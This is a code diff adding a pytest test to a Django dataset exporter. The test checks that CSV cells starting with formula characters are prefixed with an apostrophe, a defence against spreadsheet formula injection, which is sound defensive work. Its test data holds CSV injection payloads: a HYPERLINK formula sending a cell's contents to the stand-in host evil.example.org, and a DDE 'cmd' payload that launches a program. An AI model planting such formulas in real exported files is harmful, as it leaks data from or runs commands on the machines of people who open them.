@@ -19,7 +19,7 @@ from apps.catalog.models import Story
 from apps.dataset.content import public_catalogue
 from apps.dataset.snapshot import LICENCE_NOTES, latest_snapshot, write_snapshot
 from tests.dataset.conftest import SECRET_UPSTREAM, SECRET_URL
-from tests.factories import StoryFactory
+from tests.factories import SourceFactory, StoryFactory
 
 pytestmark = pytest.mark.django_db
 
@@ -147,3 +147,30 @@ def test_the_command_names_a_clash(dataset_dir: Path, monkeypatch: pytest.Monkey
     monkeypatch.setattr("apps.dataset.management.commands.export_dataset.write_snapshot", clash)
     with pytest.raises(CommandError, match=r"exists already .*run it again in a second"):
         call_command("export_dataset", stdout=io.StringIO())
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(
+    db: None, dataset_dir: Path
+) -> None:
+    """An approved title, symptom or source title starting with = + - @ (or a tab or CR)
+    reached stories.csv as is, and a spreadsheet opening it ran the formula (OWASP's CSV
+    injection). Such cells start with an apostrophe; catalogue.json keeps the exact text."""
+    title = '=HYPERLINK("https://evil.example.org/?d="&A1,"details")'
+    story = StoryFactory(title=title, symptoms=["+cmd|' /C calc'!A0", "@SUM(1+1)", "ok -1"])
+    SourceFactory(story=story, title="-2+3", url="https://example.org/formula")
+    snapshot = write_snapshot(dataset_dir)
+
+    def cells(table: str) -> list[str]:
+        with (snapshot.folder / f"{table}.csv").open(encoding="utf-8", newline="") as f:
+            return [cell for row in csv.reader(f) for cell in row]
+
+    assert "'" + title in cells("stories")
+    assert title not in cells("stories")
+    symptoms = cells("symptoms")
+    assert {"'+cmd|' /C calc'!A0", "'@SUM(1+1)", "ok -1"} <= set(symptoms)
+    assert "'-2+3" in cells("sources")
+    assert not [cell for table in ("stories", "symptoms", "sources") for cell in cells(table)
+                if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]  # fmt: skip
+    document = json.loads((snapshot.folder / "catalogue.json").read_bytes())
+    (exported,) = [s for s in document["stories"] if s["slug"] == story.slug]
+    assert exported["title"] == title
